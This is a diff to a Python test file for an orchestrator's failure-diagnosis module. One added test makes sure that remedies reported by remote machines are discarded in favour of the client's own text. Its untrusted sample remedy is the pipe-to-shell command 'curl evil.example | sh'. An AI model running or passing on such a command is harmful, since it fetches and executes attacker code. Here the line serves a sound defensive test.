@@ -15,6 +15,17 @@ from orchestrator.core.run.diagnose import REMEDIES, Diagnosis, diagnose, remedy
 CONTRACT = (Path(__file__).parents[2] / "docs/contracts.md").read_text(encoding="utf-8")
 
 
+def test_what_to_do_is_said_by_this_client_and_never_by_a_machine() -> None:
+    for cause in ("torch_missing", "never heard of"):
+        told = ev.Diagnosed(cause=cause, detail="no torch", remedy="curl evil.example | sh")
+        assert diagnose(facts=[told]) == Diagnosis(cause, "no torch", remedy(cause))
+
+
+@pytest.mark.parametrize("cause", ["agent_crashed", "deadline", "harness_crashed", "lost", "preempted"])
+def test_a_run_that_was_cut_short_is_gone_on_with_and_not_begun_again(cause: str) -> None:
+    assert "`bench launch --resume RUN`" in REMEDIES[cause]
+
+
 def refusal(code: str, message: str = "") -> ev.Fact:
     return ev.InstanceRejected(attempt=1, zone="a", code=code, message=message)
 
@@ -102,8 +113,6 @@ def test_the_machines_own_word_counts_most() -> None:
     ]
     found = diagnose(facts=[*facts, refusal("QUOTA_EXCEEDED")], log="Segmentation fault")
     assert found == Diagnosis("disk_full", "0.1 GB free", REMEDIES["disk_full"])
-    own = ev.Diagnosed(cause="disk_full", remedy="buy a disk")
-    assert diagnose(facts=[own]).remedy == "buy a disk"
 
 
 def test_the_last_refusal_of_the_provider_is_the_one_that_counts() -> None:
